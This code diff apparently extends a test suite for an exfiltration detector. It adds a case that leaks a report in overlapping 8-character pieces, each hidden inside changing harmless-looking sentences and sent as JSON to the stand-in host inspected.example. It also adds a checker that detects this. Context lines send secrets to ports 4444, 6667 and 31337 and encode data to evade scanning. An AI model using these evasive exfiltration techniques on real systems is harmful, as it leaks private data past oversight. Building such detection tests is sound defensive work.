@@ -109,6 +109,12 @@ def named(outcome):
     return KEY.lower() in asked.replace(b"-", b"")
 
 
+def followed(outcome):
+    """More of the report's letters, in order, than are let through before they are a passage."""
+    said = [re.search(rb"(?:note |saw |\": \")(.{8})(?: here| again| was)", r["data"]) for r in outcome.reached if r["kind"] == "data"]
+    return sum(1 for piece in said if piece) * 5 > 200
+
+
 def heavy(outcome):
     return sum(len(r["data"]) for r in outcome.reached if r["kind"] == "data") > 20_000
 
@@ -378,6 +384,13 @@ for port in (4444, 6667, 31337):
     talk("{PUBLIC}", port, secret)
     talk("inspected.example", port, secret)
 """),
+    encoded("the text of an archive", """
+import zipfile
+sent = zipfile.ZipFile(W + "/letter.zip").read("letter.txt").decode()"""),
+    NetAttempt(16, "pieces that reach into each other, between words that change", "T1041|T1030", """
+for n in range(0, len(report) - 7, 5):
+    web("http://inspected.example/in", json.dumps({"message": ("please note %s here", "I saw %s again", "%s was there")[n % 3] % report[n:n + 8]}), {"Content-Type": "application/json"})
+""", rule="passage_leaves", effect=followed),
     encoded("base64", "sent = base64.b64encode(report.encode()).decode()"),
     encoded("hex", "sent = report.encode().hex()"),
     encoded("rot13", 'sent = codecs.encode(report, "rot13")'),
